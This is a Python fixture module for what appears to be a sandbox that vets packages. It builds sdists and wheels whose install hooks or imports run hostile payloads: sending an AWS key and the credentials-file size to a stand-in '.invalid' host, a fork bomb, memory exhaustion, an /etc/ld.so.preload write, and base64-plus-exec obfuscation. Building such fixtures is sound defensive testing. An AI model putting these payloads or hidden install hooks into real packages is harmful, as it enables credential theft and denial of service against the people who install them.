"""Inert fixtures for the sandbox tests: hostile *behaviours* with nothing behind them.

They are built by the tests and only ever installed inside the sandbox container. The
"stealer" reads the length of ~/.aws/credentials, runs `id` and connects to a `.invalid`
host (RFC 6761: never resolves outside the sandbox); the rest exhaust the container's own
limits (processes, memory, time) or try to write to /etc.
"""

from __future__ import annotations

import base64
from pathlib import Path

from builders import BENIGN_SETUP, make_sdist, make_wheel

STEALER = '''\
import os
import socket
import subprocess


def _collect():
    try:
        with open(os.path.expanduser("~/.aws/credentials")) as fh:
            size = len(fh.read())
    except OSError:
        size = -1
    subprocess.run(["id"], capture_output=True)
    key = os.environ.get("AWS_ACCESS_KEY_ID", "")
    try:
        with socket.create_connection(("exfil.pkgvet-test.invalid", 443), timeout=3) as conn:
            conn.sendall(("size=%d key=%s" % (size, key)).encode())
    except OSError:
        pass


_collect()
'''

# Each child stays alive by blocking on a signal, not on a timer: the sandbox cuts long timer
# waits short (outwaiting), which would end sleeping children before they pile up.
FORK_STORM = '''\
import os
import signal

try:
    for _ in range(100000):
        if os.fork() == 0:
            signal.pause()
            os._exit(0)
except OSError:
    pass
'''

ENDLESS = "while True:\n    pass\n"

MEMORY_HOG = "hog = [b'x' * (100 * 2**20) for _ in range(100)]\n"

WRITES_ETC = '''\
try:
    with open("/etc/ld.so.preload", "w") as fh:
        fh.write("/tmp/hook.so\\n")
except OSError:
    pass
'''

IMPORT_TIME = '''\
import subprocess

subprocess.run(["whoami"], capture_output=True)
'''


def _setup(payload: str, name: str) -> str:
    return payload + "\n" + BENIGN_SETUP.format(name=name, version="1.0")


def sdist(dest: Path, name: str, payload: str, *, hidden: bool = False) -> Path:
    """An sdist whose setup.py runs `payload` at install time (base64+exec when hidden)."""
    if hidden:
        encoded = base64.b64encode(payload.encode()).decode()
        payload = f"import base64\nexec(base64.b64decode('{encoded}'))\n"
    return make_sdist(dest, name, "1.0", {
        "setup.py": _setup(payload, name),
        f"{name.replace('-', '_')}/__init__.py": "",
    })


def wheel(dest: Path, name: str, init: str) -> Path:
    """A wheel whose package runs `init` when imported."""
    return make_wheel(dest, name, "1.0", {f"{name}/__init__.py": init})
